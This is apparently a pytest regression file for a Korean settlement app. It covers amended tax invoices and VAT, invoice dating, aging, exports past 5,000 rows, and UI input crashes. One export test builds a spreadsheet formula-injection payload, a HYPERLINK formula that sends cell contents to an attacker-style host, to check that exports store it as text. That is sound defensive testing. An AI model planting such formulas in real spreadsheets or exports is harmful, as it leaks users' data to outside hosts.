"""What an independent review of settlements broke, held shut: VAT left on a cancelled invoice, amendments dated
before their original, corrections that restart the aging, exports that run formulas or stop at 5,000 rows, and
pages that crash on odd input."""

from __future__ import annotations

import csv
import datetime as dt
import io
import uuid
from decimal import Decimal

import pytest
from sqlalchemy import text
from sqlalchemy.exc import DBAPIError
from sqlalchemy.orm import Session
from streamlit.testing.v1 import AppTest

from circlue.db import act_as_app, set_actor, unit_of_work
from circlue.errors import ValidationError
from circlue.korea import amendment_vat, today_seoul
from circlue.repository import invoices as invoices_repo
from circlue.repository import settlement_overview
from circlue.repository import settlements as settlements_repo
from circlue.schemas.settlements import AmendmentInput, BuyerInput
from tests.conftest import actor_of
from tests.settlement_helpers import BUYER, committed_campaign, issue, open_settlement, settlement
from tests.test_pages import ROOT, _login_state

D = Decimal
GLOW, LUMIERE, ADMIN = "brand.glow@circlue.demo", "brand.lumiere@circlue.demo", "admin@circlue.demo"


def _amend(invoice_id: uuid.UUID, amount: int, reason: str, day: dt.date, **extra) -> list:
    with unit_of_work(actor_of(ADMIN)) as session:
        return invoices_repo.amend_tax_invoice(
            session,
            amendment=AmendmentInput(invoice_id=invoice_id, amount=D(amount), reason=reason, issued_date=day, **extra),
        )


@pytest.mark.parametrize(
    ("left", "left_tax", "change", "tax"),
    [
        (D(1_000_000), D(100_000), D(-500_005), D(-50_001)),  # 499,995 left owes 49,999: the change is -50,001
        (D(499_995), D(49_999), D(-499_995), D(-49_999)),  # all cancelled: no VAT left
        (D(1_000_000), D(100_000), D(-1_000_000), D(-100_000)),
        (D(1_234_567), D(123_456), D(-7), D(0)),  # 1,234,560 still owes 123,456: a change of no VAT
    ],
)
def test_an_amendments_vat_is_the_change_in_what_is_left(left, left_tax, change, tax):
    assert amendment_vat(left, left_tax, change) == (tax, change + tax)


def test_cancelling_an_invoice_in_two_amendments_leaves_no_vat(owner_engine):
    admin = actor_of(ADMIN)
    settlement_id = open_settlement(admin, committed_campaign(owner_engine, brand_email=LUMIERE, fees=[D(1_000_000)]))
    original = issue(admin, settlement_id, D(1_000_000))
    _amend(original.id, 500_005, "price-change", today_seoul())
    _amend(original.id, 499_995, "cancellation", today_seoul())
    row = settlement(owner_engine, settlement_id)
    assert (row["invoiced_amount"], row["invoiced_tax"], row["invoiced_total"]) == (0, 0, 0)


def test_the_database_refuses_an_amending_vat_that_leaves_a_remainder(owner_engine, app_engine):
    admin = actor_of(ADMIN)
    settlement_id = open_settlement(admin, committed_campaign(owner_engine, brand_email=LUMIERE, fees=[D(1_000_000)]))
    original = issue(admin, settlement_id, D(1_000_000))
    with pytest.raises(DBAPIError, match="10% of the remaining supply"):
        with Session(app_engine) as session, session.begin():
            set_actor(session, admin)
            # Each amendment's own truncated VAT (-50,000), as the code wrote it before: 1 won would be left over.
            session.execute(
                text(
                    "INSERT INTO tax_invoices (settlement_id, invoice_number, amount, tax_amount, total_amount,"
                    " issued_date, amends_invoice_id, amendment_reason, business_number, company_name, ceo_name,"
                    " address, business_type, business_item)"
                    " SELECT settlement_id, 'x', -500005, -50000, -550005, issued_date, id, 'price-change',"
                    " business_number, company_name, ceo_name, address, business_type, business_item"
                    " FROM tax_invoices WHERE id = :o"
                ),
                {"o": original.id},
            )


def test_an_amendment_is_never_dated_before_its_original(owner_engine, app_engine):
    admin = actor_of(ADMIN)
    settlement_id = open_settlement(admin, committed_campaign(owner_engine, brand_email=LUMIERE, fees=[D(100_000)]))
    original = issue(admin, settlement_id, D(100_000), day=today_seoul() - dt.timedelta(days=10))
    with pytest.raises(ValidationError, match="before its original"):
        _amend(original.id, 1_000, "price-change", today_seoul() - dt.timedelta(days=400))
    with pytest.raises(DBAPIError, match="dated before the invoice it amends"):
        with Session(app_engine) as session, session.begin():
            set_actor(session, admin)
            session.execute(
                text(
                    "INSERT INTO tax_invoices (settlement_id, invoice_number, amount, tax_amount, total_amount,"
                    " issued_date, amends_invoice_id, amendment_reason, business_number, company_name, ceo_name,"
                    " address, business_type, business_item)"
                    " SELECT settlement_id, 'x', -1000, -100, -1100, issued_date - 30, id, 'price-change',"
                    " business_number, company_name, ceo_name, address, business_type, business_item"
                    " FROM tax_invoices WHERE id = :o"
                ),
                {"o": original.id},
            )


def test_a_correction_keeps_the_originals_date_and_its_age(owner_engine):
    admin = actor_of(ADMIN)
    title = f"정정 에이징 {uuid.uuid4().hex[:6]}"
    settlement_id = open_settlement(
        admin, committed_campaign(owner_engine, brand_email=LUMIERE, fees=[D(100_000)], title=title)
    )
    eighty_days_ago = today_seoul() - dt.timedelta(days=80)
    original = issue(admin, settlement_id, D(100_000), day=eighty_days_ago)
    narrowed = settlements_repo.SettlementFilter(query=title)
    with unit_of_work(admin) as session:
        before = settlement_overview.summary(session, filters=narrowed).aging
    issued = _amend(original.id, 100_000, "correction", today_seoul(), buyer=BuyerInput(**(BUYER | {"ceo_name": "김정정"})))
    assert {i.issued_date for i in issued} == {eighty_days_ago}
    with unit_of_work(admin) as session:
        after = settlement_overview.summary(session, filters=narrowed).aging
    assert after == before and before["61-90"] > 0


def test_exports_hold_typed_text_as_text_never_as_a_formula(owner_engine):
    from openpyxl import load_workbook

    from circlue import exports

    payload = '=HYPERLINK("https://evil.example/?d="&C2,"자세히")'
    admin = actor_of(ADMIN)
    campaign = committed_campaign(owner_engine, brand_email=GLOW, fees=[D(100_000)], title=payload)
    settlement_id = open_settlement(admin, campaign)
    with unit_of_work(admin) as session:
        rows, invoices, payments = settlements_repo.export_rows(
            session, filters=settlements_repo.SettlementFilter(query="HYPERLINK(\"https://evil")
        )
    assert [r.id for r in rows] == [settlement_id]
    cells = list(csv.reader(io.StringIO(exports.settlements_csv(rows).decode("utf-8-sig"))))
    assert cells[1][1] == "'" + payload
    book = load_workbook(io.BytesIO(exports.settlements_xlsx(rows, invoices, payments)))
    sheet = book["정산 Settlements"]
    assert (sheet["B2"].value, sheet["B2"].data_type) == (payload, "s")
    # The totals row is still a formula: the one formula the workbook holds.
    assert sheet.cell(row=3, column=5).data_type == "f"


def test_the_export_holds_every_settlement_past_5000(owner_engine):
    admin = actor_of(ADMIN)
    with Session(owner_engine) as session, session.begin():
        # Rows of its own, written past the triggers as the superuser and rolled back at the end.
        session.execute(text("SET LOCAL session_replication_role = replica"))
        session.execute(
            text(
                "WITH c AS (INSERT INTO campaigns (brand_id, product_id, title, budget, campaign_start_date,"
                " campaign_end_date, proposal_deadline, status)"
                " SELECT p.brand_id, p.id, 'bulk ' || g, 1000, current_date, current_date, current_date, 'confirmed'"
                " FROM generate_series(1, 5100) g, LATERAL (SELECT id, brand_id FROM products ORDER BY id LIMIT 1) p"
                " RETURNING id, brand_id)"
                " INSERT INTO settlements (campaign_id, brand_id, amount, influencer_fees, platform_fee,"
                " platform_fee_rate, status, due_date)"
                " SELECT id, brand_id, 115, 100, 15, 0.15, 'pending', current_date + 30 FROM c"
            )
        )
        session.execute(text("SET LOCAL session_replication_role = origin"))
        act_as_app(session, admin)
        total = session.scalar(text("SELECT count(*) FROM settlements"))
        rows, _invoices, _payments = settlements_repo.export_rows(session)
        session.rollback()
    assert total > 5100 and len(rows) == total
    assert len({r.id for r in rows}) == total


def _settlements_page(email: str) -> AppTest:
    at = AppTest.from_file(str(ROOT / "views" / "settlements.py"), default_timeout=60)
    at.session_state["lang"] = "ko"
    _login_state(at, actor_of(email))
    return at.run()


def test_a_nul_in_the_search_is_a_message_not_a_crash():
    at = _settlements_page(GLOW)
    at.text_input(key="money_query").input("a\x00b").run()
    assert not at.exception
    assert any("검색" in e.value for e in at.error)


def test_an_amount_no_money_column_holds_shows_no_preview_and_no_crash(owner_engine):
    from circlue.ui.settlement_forms import vat_preview

    assert vat_preview("1e29") is None and vat_preview("10000000000000") is None
    assert vat_preview("1,000,000") is not None
    title = f"리뷰 1e29 {uuid.uuid4().hex[:6]}"
    settlement_id = open_settlement(
        actor_of(ADMIN), committed_campaign(owner_engine, brand_email=LUMIERE, fees=[D(1000)], title=title)
    )
    at = _settlements_page(ADMIN)
    at.text_input(key="money_query").input(title).run()
    assert at.selectbox(key="money_pick").value == str(settlement_id)
    prefix = f"issue_{settlement_id}_"
    at.text_input(key=prefix + "amount").input("1e29")
    at.button(key=f"FormSubmitter:{prefix}form-발행").click().run()
    assert not at.exception
    assert at.error  # the schema says the amount is too large
